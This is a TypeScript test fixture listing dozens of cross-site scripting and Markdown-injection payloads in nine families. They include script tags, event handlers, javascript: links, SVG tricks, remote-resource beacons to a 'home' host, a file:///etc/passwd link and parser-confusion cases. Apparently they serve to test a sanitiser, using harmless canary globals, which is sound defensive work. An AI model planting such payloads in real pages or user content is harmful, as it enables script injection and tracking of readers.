/**
 * Nine families of ways to run a script, or to be called home, from a text that others wrote. Every one that works sets a global that
 * begins with "ran", leaves the page, or asks `home` for something.
 */
export const hostileFamilies = (home: string): Readonly<Record<string, string>> => ({
  "1. script elements": [
    `<script>globalThis.ran1a=1</script>`,
    `<scr<script>ipt>globalThis.ran1b=1</scr</script>ipt>`,
    `<SCRIPT SRC="${home}/1.js"></SCRIPT>`,
    `<script type="module" src="${home}/1m.js"></script>`,
  ].join("\n\n"),
  "2. handlers of events": [
    `<img src=x onerror="globalThis.ran2a=1">`,
    `<body onload="globalThis.ran2b=1">`,
    `<details open ontoggle="globalThis.ran2c=1"><summary>x</summary></details>`,
    `<video><source onerror="globalThis.ran2d=1"></video>`,
    `<p onmouseover="globalThis.ran2e=1" onfocus="globalThis.ran2e=1" tabindex=1 autofocus>hover</p>`,
    `![x](x "onerror=globalThis.ran2f=1")`,
  ].join("\n\n"),
  "3. addresses that are scripts": [
    `[plain](javascript:globalThis.ran3a=1)`,
    `[case](JaVaScRiPt:globalThis.ran3b=1)`,
    `[entity](java&#x09;script:globalThis.ran3c=1)`,
    `[newline](<java&#10;script:globalThis.ran3d=1>)`,
    `[control](&#1;javascript:globalThis.ran3e=1)`,
    `[vb](vbscript:globalThis.ran3f=1)`,
    `[data](data:text/html;base64,PHNjcmlwdD5nbG9iYWxUaGlzLnJhbjNnPTE8L3NjcmlwdD4=)`,
    `[colon](javascript&colon;globalThis.ran3h=1)`,
    `<javascript:globalThis.ran3i=1>`,
    `[ref]\n\n[ref]: javascript:globalThis.ran3j=1`,
    `[file](file:///etc/passwd)`,
    `[blob](blob:${home}/3)`,
  ].join("\n\n"),
  "4. drawings": [
    `<svg onload="globalThis.ran4a=1"><script>globalThis.ran4b=1</script></svg>`,
    `<svg><animate onbegin="globalThis.ran4c=1" attributeName=x dur=1s></svg>`,
    `<svg><use href="${home}/4.svg#x"></use></svg>`,
    `<svg><a xlink:href="javascript:globalThis.ran4d=1"><text y=20>x</text></a></svg>`,
    `![svg](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9Imdsb2JhbFRoaXMucmFuNGU9MSIvPg==)`,
    `<math><mtext><script>globalThis.ran4f=1</script></mtext></math>`,
  ].join("\n\n"),
  "5. frames and objects": [
    `<iframe src="${home}/5"></iframe>`,
    `<iframe srcdoc="<script>parent.ran5a=1</script>"></iframe>`,
    `<object data="${home}/5.swf"></object>`,
    `<embed src="${home}/5.pdf">`,
    `<portal src="${home}/5p"></portal>`,
  ].join("\n\n"),
  "6. styles that call home": [
    `<style>@import url(${home}/6.css); body { background: url(${home}/6.png) }</style>`,
    `<p style="background: url(${home}/6b.png); position: fixed; inset: 0">cover</p>`,
    `<link rel="stylesheet" href="${home}/6c.css">`,
    `<link rel="prefetch" href="${home}/6d">`,
    `![remote](${home}/6e.png)`,
    `<img src="${home}/6f.png" srcset="${home}/6g.png 2x">`,
    `<audio src="${home}/6h.mp3" autoplay></audio>`,
  ].join("\n\n"),
  "7. leaving the page": [
    `<meta http-equiv="refresh" content="0;url=${home}/7">`,
    `<base href="${home}/">`,
    `<form action="${home}/7f"><input name=q><button formaction="javascript:globalThis.ran7a=1" autofocus>go</button></form>`,
    `<a href="${home}/7a" ping="${home}/7p" target="_top" autofocus>raw link</a>`,
    `<isindex action="${home}/7i">`,
  ].join("\n\n"),
  "8. breaking out of Markdown": [
    `[a](https://example.com/"onmouseover="globalThis.ran8a=1)`,
    `[b](https://example.com "title\\" onclick=\\"globalThis.ran8b=1")`,
    `![alt"onerror="globalThis.ran8c=1](x)`,
    `<https://example.com/"onclick="globalThis.ran8d=1>`,
    `[c]\n\n[c]: https://example.com/ "x\\" onfocus=\\"globalThis.ran8e=1"`,
    '```js" onclick="globalThis.ran8f=1\n</code></pre><script>globalThis.ran8g=1</script>\n```',
    `| a |\n|---|\n| <script>globalThis.ran8h=1</script> |`,
    `- [x] <img src=x onerror=globalThis.ran8i=1>`,
    `[^1]\n\n[^1]: <script>globalThis.ran8j=1</script>`,
  ].join("\n\n"),
  "9. taking names, and turning into something else": [
    `# baton\n\n# location\n\n# fakeHost`,
    `<a id="baton" name="location">x</a><form id="document"><input name="cookie"></form>`,
    `<noscript><p title="</noscript><img src=x onerror=globalThis.ran9a=1>"></noscript>`,
    `<math><mi><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=globalThis.ran9b=1&gt;">`,
    `<template><script>globalThis.ran9c=1</script></template>`,
    `<xmp><p title="</xmp><svg/onload=globalThis.ran9d=1>">`,
    `<!--><img src=x onerror=globalThis.ran9e=1>-->`,
    `<?xml version="1.0"?><x onload="globalThis.ran9f=1"/>`,
    `\u202Egpj.exe\u202C`,
  ].join("\n\n"),
});

/** A runbook full of them. */
export const hostileText = (home: string): string =>
  `# Hostile\n\n## Failure modes\n\n### Late ledger\n\n- Symptoms: <img src=x onerror=globalThis.ran0a=1> late ledger\n- Potential causes: [x](javascript:globalThis.ran0b=1)\n\n${Object.entries(
    hostileFamilies(home),
  )
    .map(([name, text]) => `## ${name}\n\n${text}`)
    .join("\n\n")}\n\n## The end\n`;
